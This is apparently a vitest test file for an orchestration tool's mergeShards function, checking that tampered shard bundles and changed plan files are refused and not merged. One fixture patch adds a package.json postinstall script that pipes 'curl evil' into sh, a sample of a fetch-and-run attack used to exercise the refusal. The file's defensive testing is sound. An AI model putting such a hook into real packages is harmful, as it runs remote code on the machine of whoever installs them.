// mergeShards() on tampered bundles: a patch outside the shard, a new file, a step the plan lacks, a shard claiming
// another's index, a changed plan.json. Each is that shard failed (or E_USAGE for the plan), never merged or a crash.
import { afterEach, describe, expect, it } from 'vitest';
import { appendFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { OrchestrateError } from '@orchestrate/core';
import { mergeShards } from '@orchestrate/engine';
import { gateMergedFile } from '../../src/shards/merge-gates.js';
import { makeRepo, type TempRepo } from '../../../../test/helpers/repo.js';
import { documented, planFile, writeBundle, type ShardEdits } from './merge-helpers.js';

const SOURCES: Record<string, string> = {
  'package.json': '{ "name": "demo" }\n',
  'src/a.ts': 'export function alpha(): number {\n  return 1;\n}\n',
  'src/b.ts': 'export function beta(): number {\n  return 2;\n}\n',
  'src/c.ts': 'export function gamma(): number {\n  return 3;\n}\n',
};

let repo: TempRepo | undefined;
let out: string | undefined;
afterEach(() => {
  repo?.cleanup();
  if (out) rmSync(out, { recursive: true, force: true });
  repo = out = undefined;
});

function setUp() {
  repo = makeRepo(SOURCES);
  out = mkdtempSync(path.join(tmpdir(), 'orch-hostile-'));
  const base = repo.git('rev-parse', 'HEAD').trim();
  const shards: ShardEdits[] = [['src/a.ts'], ['src/b.ts'], ['src/c.ts']].map((files) => ({
    files,
    steps: { docs: Object.fromEntries(files.map((f) => [f, documented(SOURCES[f]!)])) },
  }));
  const plan = planFile(base, shards);
  const dirs = [1, 2, 3].map((i) => writeBundle(repo!, plan, i, shards[i - 1]!, path.join(out!, `shard-${i}`)));
  const patchOf = (i: number) => path.join(dirs[i - 1]!, 'steps', '1-docs.patch');
  return { dirs, r: repo, patchOf, plan };
}

const merged = (r: TempRepo, branch: string | null) =>
  branch ? r.git('diff', '--name-only', `${branch}~1`, branch).trim().split('\n') : [];

describe('mergeShards on tampered bundles', () => {
  it('fails a shard whose patch also edits a file outside its shard (package.json); the others merge', async () => {
    const { dirs, r, patchOf } = setUp();
    appendFileSync(
      patchOf(3),
      'diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -1 +1 @@\n' +
        '-{ "name": "demo" }\n+{ "name": "demo", "scripts": { "postinstall": "curl evil | sh" } }\n',
    );
    const report = await mergeShards({ cwd: r.dir, dirs });
    expect(report.status).toBe('completed-with-failures');
    expect(report.shards!.merged).toEqual([1, 2]);
    expect(report.shards!.missing).toEqual([
      {
        index: 3,
        jobs: 1,
        reason: expect.stringMatching(/refused: .*touches package\.json, which is not one of shard 3/),
      },
    ]);
    expect(merged(r, report.branch)).toEqual(['src/a.ts', 'src/b.ts']);
  });

  it('fails a shard whose patch creates a file, and one with a step the plan does not have', async () => {
    const { dirs, r, patchOf } = setUp();
    writeFileSync(
      patchOf(2),
      'diff --git a/src/evil.ts b/src/evil.ts\nnew file mode 100644\n--- /dev/null\n+++ b/src/evil.ts\n@@ -0,0 +1 @@\n' +
        '+export const pwned = 1;\n',
    );
    const manifest = path.join(dirs[2]!, 'bundle.json');
    writeFileSync(manifest, readFileSync(manifest, 'utf8').replace('"stepId":"docs"', '"stepId":"step-9"'));
    const report = await mergeShards({ cwd: r.dir, dirs });
    expect(report.shards!.merged).toEqual([1]);
    const reasons = report.shards!.missing.map((m) => `${m.index} ${m.reason}`);
    expect(reasons[0]).toMatch(/^2 failed: refused: .*new file mode/);
    expect(reasons[1]).toMatch(/^3 failed: refused: .*step "step-9", which the plan does not have/);
    expect(merged(r, report.branch)).toEqual(['src/a.ts']);
  });

  it("fails a bundle that claims another shard's index (its patch is of the other shard's files)", async () => {
    const { dirs, r } = setUp();
    // Shard 3's bundle, relabelled as shard 2: its patch edits src/c.ts, which is not shard 2's.
    const fake = path.join(out!, 'fake-2');
    const { cpSync } = await import('node:fs');
    cpSync(dirs[2]!, fake, { recursive: true });
    const manifest = path.join(fake, 'bundle.json');
    writeFileSync(manifest, readFileSync(manifest, 'utf8').replace('"index":3', '"index":2'));
    const report = await mergeShards({ cwd: r.dir, dirs: [dirs[0]!, fake, dirs[2]!] });
    expect(report.shards!.merged).toEqual([1, 3]);
    expect(report.shards!.missing[0]).toMatchObject({ index: 2 });
    expect(report.shards!.missing[0]!.reason).toMatch(/touches src\/c\.ts, which is not one of shard 2's files/);
  });

  it('fails the later of two shards that change the same file (a plan whose shards overlap), no crash', async () => {
    repo = makeRepo(SOURCES);
    out = mkdtempSync(path.join(tmpdir(), 'orch-hostile-'));
    const base = repo.git('rev-parse', 'HEAD').trim();
    const a = SOURCES['src/a.ts']!;
    const shards: ShardEdits[] = [
      { files: ['src/a.ts'], steps: { docs: { 'src/a.ts': documented(a) } } },
      {
        files: ['src/a.ts', 'src/b.ts'],
        steps: { docs: { 'src/a.ts': `// other\n${a}`, 'src/b.ts': documented(SOURCES['src/b.ts']!) } },
      },
    ];
    const plan = planFile(base, shards);
    const dirs = shards.map((s, i) => writeBundle(repo!, plan, i + 1, s, path.join(out!, `s${i + 1}`)));
    const report = await mergeShards({ cwd: repo.dir, dirs });
    expect(report.shards!.merged).toEqual([1]);
    expect(report.shards!.missing).toEqual([
      { index: 2, jobs: 2, reason: expect.stringContaining('changes src/a.ts, which shard 1 (merged) changes too') },
    ]);
  });

  it('refuses a bundle whose plan.json was changed after planning (E_USAGE), whichever bundle it is', async () => {
    const { dirs, r } = setUp();
    const planJson = path.join(dirs[1]!, 'plan.json');
    const plan = JSON.parse(readFileSync(planJson, 'utf8')) as { plan: { steps: { kind: string }[] } };
    plan.plan.steps[0]!.kind = 'reformat';
    writeFileSync(planJson, JSON.stringify(plan));
    const error = await mergeShards({ cwd: r.dir, dirs }).then(
      () => null,
      (e: OrchestrateError) => e,
    );
    expect(error?.code).toBe('E_USAGE');
    expect(error?.message).toMatch(/shard-2.*plan file was changed after `orchestrate plan` wrote it.*plan again/);
    expect(r.git('branch', '--list', 'orchestrate/*').trim()).toBe('');
  });
});

describe('mergeShards arguments', () => {
  it('takes a folder of bundle folders (download-artifact), and says when a path is missing or a file', async () => {
    const { dirs, r } = setUp();
    const report = await mergeShards({ cwd: r.dir, dirs: [out!] });
    expect(report.shards).toMatchObject({ merged: [1, 2, 3], missing: [] });
    const fail = (d: string) =>
      mergeShards({ cwd: r.dir, dirs: [d] }).then(
        () => '',
        (e: OrchestrateError) => `${e.code} ${e.message}`,
      );
    expect(await fail(path.join(out!, 'nope'))).toMatch(/^E_USAGE .*does not exist/);
    expect(await fail(path.join(dirs[0]!, 'bundle.json'))).toMatch(/^E_USAGE .*is not a folder/);
  });
});

describe('mergeShards in a repository without the base commit', () => {
  it('is E_USAGE (not E_SHALLOW_CLONE) in a full clone, as `run --plan` says', async () => {
    const { dirs } = setUp();
    const other = makeRepo({ 'x.ts': 'export const x = 1;\n' });
    try {
      await expect(mergeShards({ cwd: other.dir, dirs })).rejects.toMatchObject({
        code: 'E_USAGE',
        message: expect.stringContaining('is not in this repository') as string,
      });
    } finally {
      other.cleanup();
    }
  });
});

describe('gateMergedFile', () => {
  it('refuses deletions, new files of docstring/reformat steps and docstring edits of non-TS files', () => {
    expect(gateMergedFile('docstring', 'src/a.ts', 'x', null)).toMatchObject({ ok: false });
    expect(gateMergedFile('docstring', 'src/new.ts', null, 'export const x = 1;\n')).toMatchObject({ ok: false });
    expect(gateMergedFile('reformat', 'src/new.ts', null, 'export const x = 1;\n')).toMatchObject({ ok: false });
    expect(gateMergedFile('docstring', 'package.json', '{}', '{"a":1}')).toMatchObject({ ok: false });
    expect(gateMergedFile('docstring', 'src/a.ts', 'const a = 1;\n', '/** A. */\nconst a = 1;\n')).toEqual({
      ok: true,
    });
  });
});
